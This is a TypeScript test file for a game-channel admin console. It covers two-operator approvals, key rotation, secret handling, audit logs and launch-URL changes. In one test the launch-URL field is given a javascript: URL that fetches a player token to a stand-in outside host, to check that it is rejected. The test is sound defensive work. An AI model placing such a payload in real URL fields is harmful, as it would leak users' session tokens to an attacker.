import { createPublicKey, generateKeyPairSync } from 'node:crypto';
import type { CallPath, RequestTo } from '@pitaka/contract/calls/index.ts';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { agree, approveSeen, type ConsoleOperator, openConsole } from '../../../../entry/testing/console-client.ts';
import { startTestApp, TEST_KEY, type TestApp } from '../../../../entry/testing/test-app.ts';
import { createLog } from '../../../../platform/log.ts';
import { createSecretKeys } from '../../../../platform/secret-keys.ts';
import { countWaiting } from '../../../../platform/testing/count-waiting.ts';
import { createHealthRecorder } from '../health/health-recorder.ts';
import { readSandboxKey } from '../sandbox-key.ts';
import { seedDemoChannel } from '../seed-demo-channel.ts';
import { openReportSecret } from '../store.ts';

const pem = {
  publicKeyEncoding: { type: 'spki', format: 'pem' },
  privateKeyEncoding: { type: 'pkcs8', format: 'pem' },
} as const;
const [first, second] = [
  generateKeyPairSync('rsa', { modulusLength: 2048, ...pem }),
  generateKeyPairSync('rsa', { modulusLength: 2048, ...pem }),
];
const TERMS = {
  name: 'Alpha Games',
  launchUrl: 'https://games.example/{game}?token={token}',
  apiUrl: '',
  tokenMinutes: 15,
  roundMinutes: 60,
};
const ELSEWHERE = 'https://games-alpha.example/log-in?t={token}';
const reason = 'as agreed with the provider';

let t: TestApp;
let token: string;
let owner: ConsoleOperator;
beforeAll(async () => {
  t = await startTestApp();
  ({ token } = await openConsole(t, 'manager'));
  owner = await openConsole(t, 'owner');
  await ask('/console/channels/create', {
    id: 'alpha',
    ...TERMS,
    kind: 'seamless',
    dialect: 'rsa',
    publicKey: first.publicKey,
  });
});
afterAll(() => t?.close());

const ask = <Path extends CallPath>(path: Path, body: RequestTo<Path>) => t.ask(path, body, { token });
const call = (path: CallPath, body: object) => t.call(path, body, { token });

const alpha = async () => {
  const all = await ask('/console/channels/list', {});
  const found = all.find(({ id }) => id === 'alpha');
  if (!found) throw new Error('no channel');
  return found;
};
const previewOf = async (id: string | null) =>
  (await t.ask('/console/approvals/detail', { id: id ?? '' }, { token: owner.token })).preview;
const audited = async () => (await ask('/console/audit/list', { view: '' })).content.map(({ action }) => action);

describe('game channels on the console (Spec: E7, F1)', () => {
  it('are paused when new, and opened with a second operator', async () => {
    expect(await alpha()).toMatchObject({ state: 'paused', dialect: 'rsa', address: 'http://localhost/channel/alpha' });
    const again = { id: 'alpha', ...TERMS, kind: 'seamless', dialect: 'rsa', publicKey: first.publicKey };
    expect((await call('/console/channels/create', again)).code).toBe('channel_exists');
    expect(await alpha()).toMatchObject({ isNew: true, pending: null });
    const { approval } = await ask('/console/channels/switch', { id: 'alpha', state: 'open', reason });
    expect(await previewOf(approval)).toEqual(
      expect.arrayContaining([
        { label: 'Kind', before: '', after: 'Seamless: from the player’s wallet' },
        { label: 'Signature', before: '', after: 'rsa' },
        { label: 'Game address', before: '', after: TERMS.launchUrl },
      ]),
    );
    expect(await alpha()).toMatchObject({ state: 'paused', pending: approval });
    await agree(t, owner);
    expect(await alpha()).toMatchObject({ state: 'open', isNew: false, pending: null });
    expect(await audited()).toEqual(expect.arrayContaining(['channel.create', 'channel_open.approve']));
    // Reopening takes one operator.
    for (const state of ['paused', 'open'] as const) {
      expect(await ask('/console/channels/switch', { id: 'alpha', state, reason })).toEqual({ approval: null });
      expect((await alpha()).state).toBe(state);
    }
  });

  it('accept another public key, and reject invalid ones', async () => {
    const before = (await alpha()).keyPrint;
    const made = await ask('/console/channels/rotate', { id: 'alpha', publicKey: second.publicKey, reason });
    expect((await alpha()).keyPrint).toBe(before);
    expect(made.secret).toBeNull();
    await agree(t, owner);
    expect((await alpha()).keyPrint).toBe(made.keyPrint);
    expect(made.keyPrint).not.toBe(before);
    const wrong = await call('/console/channels/rotate', { id: 'alpha', publicKey: 'no key', reason });
    expect(wrong.code).toBe('input_invalid');
    const { publicKey: short } = generateKeyPairSync('rsa', { modulusLength: 1024, ...pem });
    expect((await call('/console/channels/rotate', { id: 'alpha', publicKey: short, reason })).code).toBe(
      'input_invalid',
    );
    // A private key would work as a public key, but must stay with the provider.
    const kept = await ask('/console/channels/rotate', { id: 'alpha', publicKey: first.privateKey, reason });
    await agree(t, owner);
    const { public_key: stored } = await t.db
      .selectFrom('channels')
      .select('public_key')
      .where('channel_id', '=', 'alpha')
      .executeTakeFirstOrThrow();
    expect(stored).toBe(first.publicKey);
    expect(kept.secret).toBeNull();
  });

  it('with key pairs from before get a secret for reports with their next key', async () => {
    const row = () =>
      t.db.selectFrom('channels').selectAll().where('channel_id', '=', 'alpha').executeTakeFirstOrThrow();
    await t.db.updateTable('channels').set({ report_secret_sealed: '' }).where('channel_id', '=', 'alpha').execute();
    const made = await ask('/console/channels/rotate', { id: 'alpha', publicKey: second.publicKey, reason });
    expect(made.secret).toMatch(/^[\w-]{43}$/);
    expect(openReportSecret(createSecretKeys([TEST_KEY]), await row())).toBe(made.secret);
    await agree(t, owner);
    expect(await row()).toMatchObject({ public_key: second.publicKey, key_print: made.keyPrint });
    const again = await ask('/console/channels/rotate', { id: 'alpha', publicKey: first.publicKey, reason });
    expect(again.secret).toBeNull();
    await agree(t, owner);
  });

  it('of the sandbox change both sides of their key, and their games continue', async () => {
    const deps = { db: t.db, secrets: createSecretKeys([TEST_KEY]) };
    await seedDemoChannel(deps, 'demo', t.now);
    const before = await readSandboxKey(deps, 'demo');
    const channel = async () => (await ask('/console/channels/list', {})).find(({ id }) => id === 'demo');
    expect(await channel()).toMatchObject({ isSandbox: true });
    const made = await ask('/console/channels/rotate', { id: 'demo', publicKey: second.publicKey, reason });
    expect(made).toEqual({ keyPrint: (await channel())?.keyPrint, secret: null, approval: null });
    const key = (await readSandboxKey(deps, 'demo')) ?? '';
    expect(key).not.toBe(before);
    const stored = await t.db.selectFrom('channels').select('public_key').where('channel_id', '=', 'demo').execute();
    const publicKey = createPublicKey(key).export({ type: 'spki', format: 'pem' }).toString();
    expect(stored).toEqual([{ public_key: publicKey }]);
  });

  it('show a shared secret once', async () => {
    const made = await ask('/console/channels/create', {
      id: 'beta',
      ...TERMS,
      kind: 'seamless',
      dialect: 'hmac',
    });
    expect(made.secret).toMatch(/^[\w-]{43}$/);
    const listed = JSON.stringify(await ask('/console/channels/list', {}));
    expect(listed).not.toContain(made.secret);
    const rotated = await ask('/console/channels/rotate', { id: 'beta', reason });
    expect(rotated.secret).not.toBe(made.secret);
    const seen = JSON.stringify(
      await t.db.selectFrom('channels').select(['secret_sealed', 'next_secret_sealed']).execute(),
    );
    expect(seen).not.toContain(rotated.secret);
  });

  it('keep the approved key and limits if they are opened at the same moment', async () => {
    await ask('/console/channels/create', { id: 'raced', ...TERMS, kind: 'seamless', dialect: 'hmac' });
    const row = () =>
      t.db
        .selectFrom('channels')
        .select(['key_print', 'largest_win_minor', 'launch_url'])
        .where('channel_id', '=', 'raced')
        .executeTakeFirstOrThrow();
    const agreed = await row();
    const limits = { winTimes: 1_000_000, largestWin: '9000000.00', dailyNet: '9000000.00', freeWins: '9000000.00' };
    const changes = [
      () => call('/console/channels/rotate', { id: 'raced', reason }),
      () => call('/console/channels/save', { id: 'raced', ...TERMS, limits, reason }),
      () => call('/console/channels/save', { id: 'raced', ...TERMS, launchUrl: ELSEWHERE, reason }),
    ];
    for (const change of changes) {
      await t.db
        .updateTable('channels')
        .set({ state: 'paused', approved_at: null })
        .where('channel_id', '=', 'raced')
        .execute();
      const { changing } = await t.db.transaction().execute(async (tx) => {
        await tx
          .updateTable('channels')
          .set({ state: 'open', approved_at: t.now })
          .where('channel_id', '=', 'raced')
          .execute();
        const changing = change();
        while ((await countWaiting(t.db)) === 0) await new Promise(setImmediate);
        return { changing };
      });
      expect(await changing).toMatchObject({ code: 'approval_pending' });
      expect(await row()).toEqual(agreed);
    }
  });

  it('are changed with a reason, and the audit log shows the earlier values', async () => {
    await ask('/console/channels/save', { id: 'alpha', ...TERMS, roundMinutes: 90, reason });
    expect((await alpha()).roundMinutes).toBe(90);
    await ask('/console/channels/game', { id: 'alpha', game: 'dice', name: 'Dice', isOpen: true, reason });
    await ask('/console/channels/game', { id: 'alpha', game: 'dice', name: 'Dice', isOpen: false, reason });
    expect((await alpha()).games).toEqual([{ game: 'dice', name: 'Dice', picture: '', isOpen: false }]);
    const { content } = await ask('/console/audit/list', {});
    const saved = content.find(({ action }) => action === 'channel.save');
    expect(saved).toMatchObject({ reason, detail: { before: { round_minutes: 60 }, after: { round_minutes: 90 } } });
    const unfit = { id: 'alpha', ...TERMS, launchUrl: 'https://games.example/{game}', reason };
    expect((await call('/console/channels/save', unfit)).code).toBe('input_invalid');
  });

  it('get another picture for a game with a second operator, who sees it, and lose it at once', async () => {
    const game = { id: 'alpha', game: 'dice', name: 'Dice', isOpen: true, reason };
    const first = '/media/0123456789abcdef.webp';
    const requested = await ask('/console/channels/game', { ...game, name: 'Two dice', picture: first });
    expect(requested.approval).not.toBeNull();
    expect((await alpha()).games).toEqual([{ game: 'dice', name: 'Two dice', picture: '', isOpen: true }]);
    const again = await call('/console/channels/game', { ...game, picture: '/media/fedcba9876543210.webp' });
    expect(again.code).toBe('approval_pending');
    const id = requested.approval ?? '';
    const { preview } = await t.ask('/console/approvals/detail', { id }, { token: owner.token });
    expect(preview).toEqual([{ label: 'Picture of Two dice', before: '', after: first }]);
    expect(await approveSeen(t, id, { token: owner.token })).toMatchObject({ status: 200 });
    expect((await alpha()).games).toMatchObject([{ picture: first }]);
    // The same picture again, and none.
    expect(await ask('/console/channels/game', { ...game, picture: first })).toEqual({ approval: null });
    expect(await ask('/console/channels/game', { ...game, picture: '' })).toEqual({ approval: null });
    expect((await alpha()).games).toEqual([{ game: 'dice', name: 'Dice', picture: '', isOpen: true }]);
  });

  it('lose the address of their reports with a second operator, who reads that none is compared', async () => {
    const withApi = { id: 'alpha', ...TERMS, apiUrl: 'https://api.example', reason };
    const added = await ask('/console/channels/save', withApi);
    await approveSeen(t, added.approval ?? '', { token: owner.token });
    expect((await alpha()).apiUrl).toBe('https://api.example');
    const removed = await ask('/console/channels/save', { ...withApi, apiUrl: '' });
    const id = removed.approval ?? '';
    const { preview } = await t.ask('/console/approvals/detail', { id }, { token: owner.token });
    expect(preview).toEqual([
      { label: 'Provider’s API', before: 'https://api.example', after: 'None: no report is compared' },
    ]);
    await approveSeen(t, id, { token: owner.token });
    expect((await alpha()).apiUrl).toBe('');
  });

  it('change to another host with a second operator, and to another page of the same host at once', async () => {
    const saved = (launchUrl: string) =>
      ask('/console/channels/save', { id: 'alpha', ...TERMS, name: 'Alpha', roundMinutes: 90, launchUrl, reason });
    const page = 'https://games.example/new/{game}?t={token}';
    expect(await saved(page)).toEqual({ approval: null });
    expect(await alpha()).toMatchObject({ launchUrl: page, pending: null });
    const others = [
      ELSEWHERE,
      'https://games.example.elsewhere.example/?t={token}',
      'https://games.example:8443/?t={token}',
      'https://{game}.games.example/?t={token}',
      '/sandbox/{game}?t={token}',
    ];
    for (const other of others) {
      const { approval } = await saved(other);
      expect(approval, other).not.toBeNull();
      expect(await alpha()).toMatchObject({ launchUrl: page, pending: approval });
      expect(await previewOf(approval)).toEqual([{ label: 'Game address', before: page, after: other }]);
      await t.ask('/console/approvals/reject', { id: approval ?? '', reason: 'not theirs' }, { token: owner.token });
    }
    const script = 'javascript:fetch("//elsewhere.example/{token}")';
    const request = { kind: 'channel_change', target: 'alpha', reason, payload: { launchUrl: script } };
    expect((await call('/console/approvals/request', request)).code).toBe('input_invalid');
    const { approval } = await saved(ELSEWHERE);
    await agree(t, owner);
    expect(await alpha()).toMatchObject({ launchUrl: ELSEWHERE, pending: null });
    const { content } = await t.ask('/console/approvals/list', { view: 'approved' }, { token: owner.token });
    expect(content.find(({ id }) => id === approval)?.summary).toBe(
      'Change where the games of the game channel Alpha open',
    );
  });

  it('keep an approved host if another operator saves an old host at the same moment', async () => {
    const terms = { id: 'alpha', ...TERMS, name: 'Alpha', roundMinutes: 90, reason };
    const changed = await t.db.transaction().execute(async (tx) => {
      await tx.updateTable('channels').set({ launch_url: TERMS.launchUrl }).where('channel_id', '=', 'alpha').execute();
      const changing = call('/console/channels/save', { ...terms, launchUrl: ELSEWHERE });
      while ((await countWaiting(t.db)) === 0) await new Promise(setImmediate);
      return { changing };
    });
    expect(await changed.changing).toMatchObject({ code: 'approval_pending' });
    expect((await alpha()).launchUrl).toBe(TERMS.launchUrl);
  });

  it('count open rounds as lost sooner with a second operator, and later at once', async () => {
    const terms = { id: 'alpha', ...TERMS, roundMinutes: 90, closeHours: 48, reason };
    const times = async () => {
      const { roundMinutes, closeHours } = await alpha();
      return [roundMinutes, closeHours];
    };
    await t.db
      .updateTable('channels')
      .set({ round_minutes: 90, close_hours: 0 })
      .where('channel_id', '=', 'alpha')
      .execute();
    expect((await ask('/console/channels/save', terms)).approval).not.toBeNull();
    expect(await times()).toEqual([90, 0]);
    await agree(t, owner);
    expect(await times()).toEqual([90, 48]);
    const sooner = [
      { ...terms, closeHours: 47 },
      { ...terms, roundMinutes: 89, closeHours: 47 },
    ];
    for (const shorter of sooner) {
      const { approval } = await ask('/console/channels/save', { ...shorter, name: `Alpha ${shorter.roundMinutes}` });
      expect(approval).not.toBeNull();
      expect(await alpha()).toMatchObject({ name: `Alpha ${shorter.roundMinutes}`, pending: approval });
      await agree(t, owner);
      expect(await times()).toEqual([shorter.roundMinutes, shorter.closeHours]);
    }
    const { content } = await t.ask('/console/approvals/list', { view: 'approved' }, { token: owner.token });
    expect(JSON.stringify(content)).toContain('Let open rounds of the game channel Alpha 89 be lost sooner');
    for (const later of [{ roundMinutes: 90, closeHours: 48 }, { closeHours: 0 }]) {
      expect(await ask('/console/channels/save', { ...terms, ...later })).toEqual({ approval: null });
    }
    expect(await times()).toEqual([90, 0]);
  });

  it('show the statistics of their calls across all processes', async () => {
    const deps = { db: t.db, clock: () => t.now, log: createLog('silent') };
    const processes = [createHealthRecorder(deps), createHealthRecorder(deps)];
    for (const process of processes) {
      for (let call = 0; call < 50; call++) process.record({ siteId: 'demo', channel: 'alpha', answer: 'ok', ms: 8 });
      process.record({ siteId: 'demo', channel: 'alpha', answer: 'not_enough_money', ms: 250 });
      process.record({ siteId: 'demo', channel: 'alpha', answer: 'signature_wrong', ms: 1 });
      await process.worker.stop();
    }
    const { health } = await alpha();
    expect(health).toMatchObject({ calls: 104, refused: 4, signatureFailures: 2, p99Ms: 300, perMinute: 20.8 });
    expect(health.lastAt).toBe(t.now.toISOString());
    expect(health.hours).toHaveLength(24);
    expect(health.hours.at(-1)).toEqual({ at: t.now.toISOString(), calls: 104, refused: 4 });
  });
});
